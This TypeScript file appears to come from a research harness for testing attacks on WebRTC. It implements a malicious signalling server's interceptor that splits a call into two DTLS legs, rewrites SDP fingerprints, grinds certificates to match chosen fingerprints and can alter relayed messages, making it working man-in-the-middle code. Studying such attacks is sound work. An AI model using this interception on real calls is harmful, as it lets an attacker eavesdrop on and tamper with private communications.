import { randomBytes } from "node:crypto";
import "./loopback.ts";
import type { SignallingAttack } from "../../src/attacks/attack.ts";
import { effectiveFacts, parseDescription } from "../../src/sdp/description.ts";
import { type Fingerprint, fingerprintsOf } from "../../src/sdp/fingerprint.ts";
import { counterpartOf, type PeerName } from "../../src/trace/events.ts";
import { report } from "./actor.ts";
import { Bridge } from "./bridge.ts";
import { type Identity, makeIdentity, withCertificate } from "./certificate.ts";
import { Leg, type LegName } from "./leg.ts";
import type { Ports } from "./protocol.ts";
import type { PeerSignal, SignalInterceptor } from "./room.ts";

/** One operator, one pair of certificates: a victim that remembers the attacker's finds it again in the next call. */
const identities: Partial<Record<LegName, Promise<Identity>>> = {};

/**
 * The part of a malicious server that holds the two DTLS legs. Each peer is given the leg that faces it instead
 * of the other peer.
 */
export class Interceptor implements SignalInterceptor {
  readonly bridge: Bridge;
  readonly #attack: SignallingAttack;
  readonly #legs: Readonly<Record<PeerName, Leg>>;
  readonly #tell: (to: PeerName, signal: PeerSignal) => void;
  #offer: { readonly from: PeerName; readonly sdp: string } | undefined;

  /** Makes both legs' keys and sockets, so that no signal has to wait for them. */
  static async open(
    attack: SignallingAttack,
    ports: Ports,
    tell: (to: PeerName, signal: PeerSignal) => void,
  ): Promise<Interceptor> {
    const [alice, bob] = await Promise.all(
      (["alice-leg", "bob-leg"] as const).map((owner) => openLeg(owner, ports)),
    );
    if (!alice || !bob) throw new Error("an interceptor needs two legs");
    return new Interceptor(attack, { alice, bob }, tell);
  }

  private constructor(
    attack: SignallingAttack,
    legs: Readonly<Record<PeerName, Leg>>,
    tell: (to: PeerName, signal: PeerSignal) => void,
  ) {
    this.#attack = attack;
    this.#legs = legs;
    this.#tell = tell;
    this.bridge = new Bridge(legs);
  }

  pass(from: PeerName, signal: PeerSignal): PeerSignal | undefined {
    switch (signal.type) {
      case "offer":
        this.#offer = { from, sdp: signal.sdp };
        return this.#forward(counterpartOf(from), signal);
      case "answer":
        if (!this.#offer) return undefined;
        this.#settle(this.#offer, { from, sdp: signal.sdp });
        return this.#forward(counterpartOf(from), signal);
      case "candidate":
        this.#legs[from].hearCandidate(signal.candidate);
        return undefined;
      case "bye":
      case "telemetry":
        return signal;
    }
  }

  #forward(to: PeerName, signal: Extract<PeerSignal, { sdp: string }>): PeerSignal {
    const { parameters, candidate } = this.#legs[to];
    queueMicrotask(() => this.#tell(to, { type: "candidate", candidate, sdpMLineIndex: 0 }));
    // The leg that answers takes the passive role, so that the peer speaks first in DTLS.
    const setup = signal.type === "answer" ? ({ setup: "passive" } as const) : {};
    return { ...signal, sdp: this.#attack.description(signal.sdp, { ...parameters, ...setup }) };
  }

  /** With the answer all is known: the last certificate can be chosen, and both legs connect. */
  #settle(offer: { from: PeerName; sdp: string }, answer: { from: PeerName; sdp: string }): void {
    const callerLeg = this.#legs[offer.from];
    const calleeLeg = this.#legs[answer.from];
    const caller = firstFingerprint(offer.sdp);
    const callee = firstFingerprint(answer.sdp);
    if (this.#attack.settleCertificate && caller && callee) {
      const started = performance.now();
      const { der } = callerLeg.identity;
      // The last bytes of a certificate belong to its signature.
      const template = { der, mutable: { offset: der.length - 6, length: 6 } };
      const calleeLegFingerprint = calleeLeg.parameters.fingerprint;
      const chosen = this.#attack.settleCertificate({
        caller,
        callee,
        calleeLeg: calleeLegFingerprint,
        template,
      });
      callerLeg.identity = withCertificate(callerLeg.identity, chosen.certificate);
      const durationMs = performance.now() - started;
      report({
        kind: "certificate-ground",
        owner: callerLeg.owner,
        certificate: Buffer.from(chosen.certificate).toString("base64"),
        tries: chosen.tries,
        durationMs,
      });
    }
    if (this.#attack.messages && caller && callee) {
      const genuine = { [offer.from]: caller, [answer.from]: callee };
      const { alice, bob } = genuine;
      const legs = {
        alice: this.#legs.alice.parameters.fingerprint,
        bob: this.#legs.bob.parameters.fingerprint,
      };
      if (alice && bob)
        this.bridge.alter = this.#attack.messages({ genuine: { alice, bob }, legs, random: randomBytes });
    }
    // The leg that answered an offer is controlled; the one that made the offer is controlling (RFC 8445 §6.1.1).
    connect(callerLeg, offer.sdp, "controlled");
    connect(calleeLeg, answer.sdp, "controlling");
  }
}

function openLeg(owner: LegName, ports: Ports): Promise<Leg> {
  const port = ports[owner];
  if (port === undefined) throw new Error(`the network gave the ${owner} no port`);
  identities[owner] ??= makeIdentity(owner);
  return Leg.open(owner, port, identities[owner]);
}

function connect(leg: Leg, sdp: string, iceRole: "controlling" | "controlled"): void {
  const description = parseDescription(sdp);
  const { iceUfrag, icePwd } = effectiveFacts(description, 0) ?? description.session;
  if (iceUfrag === undefined || icePwd === undefined) return;
  leg.connect({ iceUfrag, icePwd }, iceRole).catch((error: unknown) => {
    const why = error instanceof Error ? error.message : String(error);
    report({ kind: "state", owner: leg.owner, of: "dtls", state: `failed: ${why}` });
  });
}

function firstFingerprint(sdp: string): Fingerprint | undefined {
  return fingerprintsOf(sdp)[0]?.fingerprint;
}
